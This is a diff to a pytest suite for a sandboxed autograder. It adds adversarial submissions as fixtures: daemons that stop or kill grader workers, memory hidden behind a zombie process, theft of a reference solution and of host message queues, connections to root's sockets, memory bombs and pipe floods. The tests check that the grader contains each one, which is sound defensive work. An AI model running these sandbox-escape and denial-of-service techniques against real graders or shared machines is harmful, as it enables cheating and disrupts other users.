@@ -5,6 +5,11 @@ honest score. Each attack family below adds a few lines to it, several members p
 submission (so the suite stays small): none may raise the score above the honest one, the grader must write a
 results.json that says what happened, and the instructor's hidden notes must show something.
 
+The sandbox families (processes that outlive their worker, kernel objects and the network, the run's deadline,
+the trusted side's memory) run with everything this machine allows and again without a cgroup or IPC, network
+and PID namespaces (GRADER_SANDBOX=bare, as in Docker without capabilities); one case runs the whole grading
+inside a 768 MB memory cgroup, where this machine lets root make one.
+
 Needs root and an interpreter an unprivileged uid can run (see tests/autograder_sim.py); skipped otherwise,
 since without the isolation the grader refuses to run submissions (or, in its development mode, has none).
 The trusted judge's own defences (re-judging only on a schedule, tolerance scales, degenerate alpha_bars, the
@@ -13,13 +18,16 @@ judge's cost) are tested in process at the end of this file, without the zip and
 import concurrent.futures
 import math
 import os
-import sys
 import re
+import shutil
 import textwrap
+import time
 
 import pytest
 
 from autograder_sim import REFERENCE, build, environment, grade, hidden, mutant, visible
+
+import autograder_runner  # noqa: E402 - tools/ is on sys.path (autograder_sim)
 
 WRONG_MATH = mutant("q_sample_minus_noise", "p_losses_mse", "p_sample_x0_divides_by_alpha")
 
@@ -290,6 +298,220 @@ if _GRADED:
     Diffusion.__init__, Diffusion.q_sample, Diffusion.p_sample = (_init_crafted, _on_true_values(_plain_q_sample),
                                                                   _on_true_values(_plain_p_sample))
 ''')
+# outliving a worker to attack the next one: a setsid daemon that stops the next pids (ns_last_pid) and kills every
+# other worker of its uid before it says "ready" (once that switched the hiding off), a zombie leader whose live
+# thread holds 300 MB (invisible to a process list that skips state Z), and a crash in a probe whose check fails
+# anyway, so that the grader restarts its worker; a world-readable copy of the reference waits under /tmp for an
+# unhidden one
+SURVIVORS = attack(r"""
+import ctypes as _ctypes, os as _os, signal as _signal, sys as _sys, threading as _threading, time as _time
+for _path in ["/tmp/ddpm-copy-{tag}/diffusion.py"]:
+    try:
+        _text = open(_path).read()
+    except OSError:
+        continue
+    _module = {}
+    exec(compile(_text, "stolen", "exec"), _module)
+    Diffusion = _module["Diffusion"]
+_OURS = _os.getpgid(0)  # the worker's process group: its threads and this import
+_WORKER = int(_os.readlink("/proc/self"))  # this worker's pid as /proc numbers it
+def _saboteur():
+    while True:
+        try:
+            last = int(open("/proc/sys/kernel/ns_last_pid").read())
+        except (OSError, ValueError):
+            last = 0
+        for pid in range(last + 1, last + 30):  # whoever comes next: a killer, a restarted worker
+            try:
+                if _os.getpgid(pid) not in (_OURS, _os.getpgid(0)):
+                    _os.kill(pid, _signal.SIGSTOP)
+            except OSError:
+                pass
+        for name in _os.listdir("/proc"):  # any other worker (a child of root's grader), before it says "ready"
+            try:
+                parent = open("/proc/%s/stat" % name).read().rsplit(")", 1)[1].split()[1]
+                if (b"probe_worker" in open("/proc/%s/cmdline" % name, "rb").read() and int(name) != _WORKER
+                        and _os.stat("/proc/" + parent).st_uid == 0):
+                    _os.kill(int(name), _signal.SIGKILL)
+            except (OSError, ValueError, IndexError):
+                pass
+        _time.sleep(0.01)
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _saboteur()
+    _os._exit(0)
+def _hold_memory():
+    _block = bytearray(300 << 20)
+    for _k in range(0, len(_block), 4096):
+        _block[_k] = 1
+    _time.sleep(3600)
+if _os.fork() == 0:
+    _os.setsid()
+    _threading.Thread(target=_hold_memory).start()
+    _time.sleep(0.5)
+    _ctypes.CDLL(None).syscall(60, 0)  # exit(2) of the main thread only: the leader reads Z, the thread runs on
+_q_sample = Diffusion.q_sample
+def _crash(self, x_0, t, noise):  # in the large-T q_sample probe only, whose check this q_sample fails anyway
+    _frame = _sys._getframe(1)
+    while _frame is not None and _frame.f_code.co_name != "probe_q_sample":
+        _frame = _frame.f_back
+    if _frame is not None and _frame.f_locals.get("T", 0) >= 600:
+        _os._exit(0)
+    return _q_sample(self, x_0, t, noise)
+Diffusion.q_sample = _crash
+""")
+
+# kernel objects outside the process tree: SysV shared memory (touched, detached), SysV and POSIX message queues
+# and semaphores left behind, files in the shared temporary folders, the messages of a queue the machine holds,
+# and connections to root's loopback TCP and abstract unix sockets
+KERNEL_OBJECTS = textwrap.dedent(r"""
+import ctypes as _ctypes, os as _os, socket as _socket
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = _ctypes.c_void_p
+_shm = _libc.shmget(0x5EED0000 + {key}, 64 << 20, 0o1666)
+if _shm >= 0:
+    _address = _libc.shmat(_shm, None, 0)
+    if _address not in (None, _ctypes.c_void_p(-1).value):
+        _ctypes.memset(_address, 1, 64 << 20)
+        _libc.shmdt(_ctypes.c_void_p(_address))
+_queue = _libc.msgget(0x5EED1000 + {key}, 0o1666)
+_message = _ctypes.create_string_buffer(b"\x01\x00\x00\x00\x00\x00\x00\x00left for the next grading", 64)
+_libc.msgsnd(_queue, _message, 30, 0o4000)
+_libc.semget(0x5EED2000 + {key}, 4, 0o1666)
+try:
+    _rt = _ctypes.CDLL("librt.so.1", use_errno=True)
+except OSError:
+    _rt = _libc
+_rt.mq_open(b"/ddpm-{tag}", 0o100 | 0o2, 0o666, None)
+_host = _libc.msgget(0x5EED3000 + {key}, 0)  # the machine's queue: read and take its message if it is reachable
+_got = _ctypes.create_string_buffer(256)
+if _host >= 0 and _libc.msgrcv(_host, _got, 200, 0, 0o4000) > 0:
+    open(_os.path.expanduser("~") + "/stolen", "wb").write(_got.raw)
+_hq = _rt.mq_open(b"/ddpm-host-{tag}", 0o2 | 0o4000, 0, None)
+if _hq >= 0:
+    _rt.mq_receive(_hq, _got, 8192, None)
+for _path in ["/tmp/ddpm-file-{tag}", "/dev/shm/ddpm-{tag}", "/var/tmp/ddpm-file-{tag}"]:
+    try:
+        with open(_path, "wb") as _f:
+            _f.write(b"x" * 4096)
+    except OSError:
+        pass
+for _family, _address in ((_socket.AF_INET, ("127.0.0.1", {port})), (_socket.AF_UNIX, "\0ddpm-{tag}-{port}")):
+    try:
+        _s = _socket.socket(_family, _socket.SOCK_STREAM)
+        _s.settimeout(2)
+        _s.connect(_address)
+        _s.sendall(b"from the student")
+    except OSError:
+        pass
+""")
+
+# the whole run past Gradescope's limit: every probe of the functions it needs waits for ever, with a probe timeout
+# longer than the run (the test shrinks the 540 s deadline to 24 s)
+PAST_THE_DEADLINE = attack(r"""
+import time as _time
+def _forever(*args, **kwargs):
+    while True:
+        _time.sleep(1)
+Diffusion.forward = Diffusion.p_sample_loop = Diffusion.sample = _forever
+""")
+
+# inside a 768 MB container: a memory bomb in a daemon, and in p_losses (already wrong) a first answer to every
+# probe in 390 kB of floats (16 MB in all, some 120 MB once parsed) and a crash, so that the worker restarts (a
+# grader whose protocol budget restarted with each worker, and kept parsed answers, held gigabytes this way)
+CONTAINER_768 = attack(r"""
+import os as _os, stat as _stat, time as _time
+if _os.fork() == 0:
+    _os.setsid()
+    _time.sleep(2)  # once the submission is imported
+    _blocks = []
+    for _ in range(64):
+        _blocks.append(bytearray(64 << 20))
+        for _k in range(0, len(_blocks[-1]), 4096):
+            _blocks[-1][_k] = 1
+    _time.sleep(3600)
+_answer = ", ".join(["0.123456789"] * 30000)
+def _flood_and_crash(self, x_0, t, noise):
+    for _fd in range(3, 16):
+        try:
+            if not _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
+                continue
+            for _i in range(41):
+                _os.write(_fd, ('{"i": %d, "out": [%s]}\n' % (_i, _answer)).encode())
+        except OSError:
+            pass
+    _os._exit(0)
+Diffusion.p_losses = _flood_and_crash
+""")
+
+
+DEADLINE_S = 24  # the run's deadline in the past-the-deadline case (Gradescope's 600 s limit, shrunk for the test)
+
+
+class Listeners:
+    """Root-owned loopback TCP and abstract unix listeners that record every connection the student's code makes."""
+
+    def __init__(self, tag):
+        import socket
+        import threading
+
+        self.connections = []
+        self.sockets = [socket.socket(socket.AF_INET, socket.SOCK_STREAM), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)]
+        self.sockets[0].bind(("127.0.0.1", 0))
+        self.port = self.sockets[0].getsockname()[1]
+        self.sockets[1].bind(f"\0ddpm-{tag}-{self.port}")
+        for s in self.sockets:
+            s.listen(8)
+            s.settimeout(0.2)
+            threading.Thread(target=self._accept, args=(s,), daemon=True).start()
+
+    def _accept(self, s):
+        while s.fileno() >= 0:
+            try:
+                conn, _ = s.accept()
+            except OSError:
+                continue
+            self.connections.append(conn.recv(100))
+            conn.close()
+
+    def close(self):
+        for s in self.sockets:
+            s.close()
+
+
+def container_peak(cgroup):
+    folder, version = cgroup.dirs["memory"]
+    with open(os.path.join(folder, "memory.peak" if version == 2 else "memory.max_usage_in_bytes")) as f:
+        return int(f.read()) >> 20
+
+
+def host_queues(key, tag):
+    """A SysV message queue and a POSIX queue of the machine (root's, readable by anyone), one message each."""
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    queue = libc.msgget(0x5EED3000 + key, 0o1666)
+    libc.msgsnd(queue, ctypes.create_string_buffer(b"\x01" + b"\x00" * 7 + b"the reference's numbers", 64), 24, 0)
+    try:
+        rt = ctypes.CDLL("librt.so.1", use_errno=True)
+    except OSError:
+        rt = libc
+    posix = rt.mq_open(f"/ddpm-host-{tag}".encode(), 0o100 | 0o2, 0o666, None)
+    rt.mq_send(posix, b"the reference's numbers", 23, 0)
+
+    def messages_left():
+        sysv = sum(int(line.split()[4]) for line in open("/proc/sysvipc/msg").readlines()[1:]
+                   if int(line.split()[1]) == queue)  # qnum column
+        attr = (ctypes.c_long * 8)()
+        rt.mq_getattr(posix, attr)
+        return sysv, attr[3]
+
+    def remove():
+        libc.msgctl(queue, 0, None)
+        rt.mq_unlink(f"/ddpm-host-{tag}".encode())
+
+    return messages_left, remove
 
 
 @pytest.fixture(scope="module")
@@ -320,11 +542,36 @@ def results(tmp_path_factory):
         "symlink_reference": {"diffusion.py": ("symlink", "{root}/source/reference/diffusion.py")},
         "symlink_outside": {"hw/diffusion.py": ("symlink", "/etc/passwd")},
         "refused_no_unprivileged_python": {"diffusion.py": "open('/tmp/ran-as-root-{tag}', 'w').close()\n" + REFERENCE},
+        "beyond_the_worker": {"diffusion.py": SURVIVORS + KERNEL_OBJECTS},
+        "past_the_deadline": {"diffusion.py": PAST_THE_DEADLINE},
+        "container_768": {"diffusion.py": CONTAINER_768},
+        # the same without a cgroup or IPC / network / PID namespaces, as in Docker without capabilities
+        "beyond_the_worker_bare": {"diffusion.py": SURVIVORS + KERNEL_OBJECTS},
     }
     # the same (otherwise secret) inputs for every case, so that scores compare exactly
     seed = {"GRADER_FIXED_SEED": str(int.from_bytes(os.urandom(6), "big"))}
     env = {name: dict(seed) for name in cases}
     env["resources"].update(GRADER_PROBE_TIMEOUT="5", GRADER_MEMORY_MB="1200")
+    env["past_the_deadline"].update(GRADER_TOTAL_LIMIT=str(DEADLINE_S), GRADER_PROBE_TIMEOUT="600")
+    env["container_768"].update(GRADER_MEMORY_MB="300")
+    env["beyond_the_worker_bare"].update(GRADER_SANDBOX="bare")
+    # a world-readable copy of the reference elsewhere on the machine (instructors' own hosts have them)
+    copy = f"/tmp/ddpm-copy-{tag}"
+    os.mkdir(copy)
+    os.chmod(copy, 0o755)
+    with open(os.path.join(copy, "diffusion.py"), "w") as f:
+        f.write(REFERENCE)
+    os.chmod(os.path.join(copy, "diffusion.py"), 0o644)
+    listeners = Listeners(tag)
+    key = int.from_bytes(os.urandom(2), "big")
+    messages_left, remove_queues = host_queues(key, tag)
+    container = autograder_runner.Cgroup(f"test-768-{tag}")  # the whole run of one case inside 768 MB
+    if "memory" in container.dirs:
+        container.set_limits(memory=768 << 20)
+    cgroups = {"container_768": container.join_files()} if "memory" in container.dirs else {}
+    for name, port, queue in (("beyond_the_worker", listeners.port, key),
+                              ("beyond_the_worker_bare", 1, key + 1)):  # bare: nothing listens on port 1, no queue
+        cases[name] = {k: v.replace("{port}", str(port)).replace("{key}", str(queue)) for k, v in cases[name].items()}
     # an interpreter root can run but an unprivileged uid cannot (like one installed under /root, mode 0700)
     private = base / "root-only"
     private.mkdir()
@@ -339,11 +586,24 @@ def results(tmp_path_factory):
         files = {k: (v if isinstance(v, tuple) else v.replace("{root}", str(root)).replace("{tag}", tag))
                  for k, v in cases[name].items()}
         files = {k: (("symlink", v[1].replace("{root}", str(root))) if isinstance(v, tuple) else v) for k, v in files.items()}
-        return name, grade(zip_path, root, files, env[name], python=pythons.get(name))
+        started = time.time()
+        proc, result = grade(zip_path, root, files, env[name], python=pythons.get(name), cgroup=cgroups.get(name))
+        seconds[name] = time.time() - started
+        return name, (proc, result)
 
-    with concurrent.futures.ThreadPoolExecutor(2) as pool:
-        graded = dict(pool.map(run, cases))
-    return graded, tag, base
+    seconds = {}
+    try:
+        with concurrent.futures.ThreadPoolExecutor(2) as pool:
+            graded = dict(pool.map(run, cases))
+        machine = {"connections": list(listeners.connections), "host messages": messages_left(), "seconds": seconds,
+                   "container": container if cgroups else None,
+                   "container peak MB": container_peak(container) if cgroups else None}
+    finally:
+        listeners.close()
+        remove_queues()
+        shutil.rmtree(copy, ignore_errors=True)
+        container.remove(time.time() + 10)
+    return graded, tag, base, machine
 
 
 def honest(results):
@@ -361,33 +621,28 @@ def test_the_wrong_math_submission_gets_an_honest_partial_score(results):
     ("visible_expected", "submission mentions:"),
     ("patch_the_judge", "submission mentions:"),
     ("forge_reports", "unexpected protocol lines"),
-    ("outlive", "leftover processes"),
+    ("outlive", "processes besides the worker"),
     ("resources", "probes stopped"),
     ("flood", "flood"),
 ])
 def test_attacks_leave_the_honest_score_and_a_note(results, name, note):
-    graded, _, _ = results
+    graded = results[0]
     proc, result = graded[name]
     assert proc.returncode == 0, proc.stderr[-2000:]
     assert result["score"] <= honest(results) + 1e-6, (name, result["score"], honest(results), result["output"])
     assert len(visible(result)) == len(visible(graded["honest"][1]))
     assert note in hidden(result), hidden(result)[-3000:]
-    uid = re.search(r"ran as uid (\d+)", hidden(result))
-    assert uid, hidden(result)[-2000:]
-    sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tools"))
-    from autograder_runner import processes_of
-
-    assert processes_of(int(uid.group(1))) == [], f"{name}: processes of the student's uid are still alive"
+    assert re.search(r"ran as uid (\d+)", hidden(result)), hidden(result)[-2000:]
 
 
 def test_attacks_that_only_compute_keep_exactly_the_honest_score(results):
-    graded, _, _ = results
+    graded = results[0]
     for name in ("visible_expected", "patch_the_judge", "outlive", "decoy_schedule", "graded_only"):
         assert abs(graded[name][1]["score"] - honest(results)) < 1e-6, (name, graded[name][1]["output"])
 
 
 def test_daemons_and_late_writers_do_not_touch_the_results(results):
-    graded, tag, base = results
+    graded, tag = results[:2]
     proc, result = graded["outlive"]
     assert result["score"] != 100 and result["tests"]
     assert not os.path.exists(f"/tmp/tampered-{tag}") or os.stat(f"/tmp/tampered-{tag}").st_uid != 0
@@ -396,7 +651,7 @@ def test_daemons_and_late_writers_do_not_touch_the_results(results):
 
 
 def test_resource_attacks_cost_only_the_functions_they_break(results):
-    graded, _, _ = results
+    graded = results[0]
     _, result = graded["resources"]
     outputs = {t["name"]: t["output"] for t in visible(result)}
     assert any("ended early" in o for n, o in outputs.items() if n.startswith("p_losses:")), outputs
@@ -408,7 +663,7 @@ def test_resource_attacks_cost_only_the_functions_they_break(results):
 
 @pytest.mark.parametrize("name", ["symlink_dev_zero", "symlink_reference", "symlink_outside"])
 def test_symlinked_submissions_are_refused_without_following(results, name):
-    graded, _, _ = results
+    graded = results[0]
     proc, result = graded[name]
     assert proc.returncode == 0, proc.stderr[-2000:]
     assert result["score"] == 0
@@ -416,12 +671,121 @@ def test_symlinked_submissions_are_refused_without_following(results, name):
 
 
 def test_no_unprivileged_interpreter_means_refusal_not_root(results):
-    graded, tag, _ = results
+    graded, tag = results[:2]
     proc, result = graded["refused_no_unprivileged_python"]
     assert result["score"] == 0
     assert "REFUSED" in result["output"] and "never run as root" in result["output"]
     assert not os.path.exists(f"/tmp/ran-as-root-{tag}"), "the submission ran although the grader refused"
     assert "refused" in hidden(result) and len(visible(result)) == 43
+
+
+def uid_of(result):
+    return int(re.search(r"ran as uid (\d+)", hidden(result)).group(1))
+
+
+def test_nothing_of_the_student_is_left_after_any_grading(results):
+    graded, tag = results[:2]
+    for name, (_, result) in graded.items():
+        if "ran as uid" not in hidden(result):
+            continue
+        uid = uid_of(result)
+        assert autograder_runner.processes_of(uid) == [], f"{name}: processes or threads of the student's uid live on"
+        assert autograder_runner.ipc_objects_of(uid) == [], name
+        assert autograder_runner.files_of(uid) == [], name
+    assert not any(os.path.exists(p) for p in (f"/tmp/ddpm-file-{tag}", f"/dev/shm/ddpm-{tag}", f"/var/tmp/ddpm-file-{tag}"))
+
+
+@pytest.mark.parametrize("name", ["beyond_the_worker", "beyond_the_worker_bare"])
+def test_survivors_cannot_stop_the_grader_lift_its_isolation_or_hide_their_memory(results, name):
+    graded, _, _, machine = results
+    proc, result = graded[name]
+    notes = hidden(result)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), notes[-3000:])
+    assert "ran without hiding" not in notes and "private mount namespace" in notes, notes[-3000:]
+    assert "processes besides the worker" in notes and "ended early" in " ".join(t["output"] for t in visible(result))
+    # the zombie leader's thread holds 300 MB on top of the interpreter: counted
+    baseline = int(re.search(r"the interpreter after import torch \((\d+)\)", notes).group(1))
+    peak = int(re.search(r"peak memory of the student's processes \(MB\): (\d+)", notes).group(1))
+    assert peak >= baseline + 290, (baseline, peak)
+    assert machine["seconds"][name] < 200
+    assert ("cgroup: none could be made" in notes) == name.endswith("_bare"), notes[-3000:]
+
+
+def test_kernel_objects_and_the_network_are_the_gradings_own(results):
+    graded, _, _, machine = results
+    proc, result = graded["beyond_the_worker"]
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), hidden(result)[-3000:])
+    assert machine["connections"] == [], "the student's process reached root's loopback or abstract unix socket"
+    assert machine["host messages"] == (1, 1), "the student's process took the machine's queued messages"
+    assert "namespaces: private IPC, network" in hidden(result), hidden(result)[-3000:]
+
+
+def test_without_namespaces_the_uids_ipc_objects_are_removed_and_the_notes_say_what_is_shared(results):
+    graded = results[0]
+    proc, result = graded["beyond_the_worker_bare"]
+    notes = hidden(result)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), notes[-3000:])
+    removed = re.search(r"IPC objects of the uid removed: (.*)", notes)
+    assert removed and all(kind in removed.group(1) for kind in ("shm", "msg", "sem", "1 POSIX message queues")), notes
+    assert "network: NOT isolated" in notes and "IPC: shared with the machine" in notes
+
+
+def test_a_run_past_the_deadline_still_writes_its_results_in_time(results):
+    graded, _, _, machine = results
+    proc, result = graded["past_the_deadline"]
+    assert autograder_runner.TOTAL_S <= 540, "results.json must be written by 9 minutes, under Gradescope's 10"
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert machine["seconds"]["past_the_deadline"] < DEADLINE_S + 4, machine["seconds"]
+    assert len(visible(result)) == len(visible(graded["honest"][1])) and result["score"] <= honest(results) + 1e-6
+    looping = [t for t in visible(result) if t["name"].split(":")[0] in ("forward", "p_sample_loop", "sample")]
+    assert looping and all("time limit" in t["output"] for t in looping), [t["output"][:200] for t in looping]
+
+
+def test_the_trusted_side_fits_a_768_mb_container_whatever_the_student_sends(results):
+    graded, _, _, machine = results
+    if machine["container"] is None:
+        pytest.skip("no memory cgroup can be made on this machine (needs a writable cgroup with memory control)")
+    proc, result = graded["container_768"]
+    notes = hidden(result)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert "grading took" in notes and len(visible(result)) == len(visible(graded["honest"][1]))
+    assert result["score"] <= honest(results) + 1e-6
+    assert "flood" in notes, notes[-3000:]
+    limit = int(re.search(r"memory limit \(MB\): (\d+)", notes).group(1))
+    peak = int(re.search(r"peak memory of the student's processes \(MB\): (\d+)", notes).group(1))
+    assert 64 < limit - 300 and peak <= limit + 32, (limit, peak)  # the 4 GB bomb stopped at the limit
+    assert machine["container peak MB"] <= 768
+
+
+def test_a_zombie_leader_with_a_live_thread_is_seen_counted_and_killed_from_root():
+    """Unit check of the process accounting (no zip): a process whose main thread exited while another thread
+    holds 200 MB reads State: Z; it is still one of the uid's processes, its memory counts, and the sandbox kills it."""
+    import subprocess
+    import sys
+
+    if os.geteuid() != 0:
+        pytest.skip("needs root (to run the process as a throwaway uid)")
+    code = ("import ctypes, threading, time\n"
+            "def hold():\n    block = bytearray(200 << 20)\n    block[::4096] = b'x' * len(block[::4096])\n    time.sleep(600)\n"
+            "threading.Thread(target=hold).start()\ntime.sleep(0.5)\nctypes.CDLL(None).syscall(60, 0)\n")
+    uid = autograder_runner.pick_uid()
+    prefix = os.path.dirname(os.path.dirname(os.path.realpath(sys.executable)))
+    visible = [prefix] if autograder_runner.can_hide_filesystem() else None
+    proc = subprocess.Popen([os.path.realpath(sys.executable), "-I", "-c", code], cwd="/",
+                            preexec_fn=autograder_runner.make_sandbox(8 << 30, uid, visible))
+    try:
+        assert autograder_runner.wait_until(lambda: autograder_runner._status(f"/proc/{proc.pid}/status")[0] == "Z",
+                                            time.time() + 30)
+        assert autograder_runner.processes_of(uid) == [proc.pid]
+        assert autograder_runner.rss_of([proc.pid]) > 200 << 20
+        killed, left = autograder_runner.Sandbox(uid).kill(time.time() + 10)
+        assert (killed, left) == ({proc.pid}, 0) and autograder_runner.processes_of(uid) == []
+    finally:
+        proc.kill()
+        proc.wait(timeout=10)
 
 
 # ================================================================== the trusted judge, in process
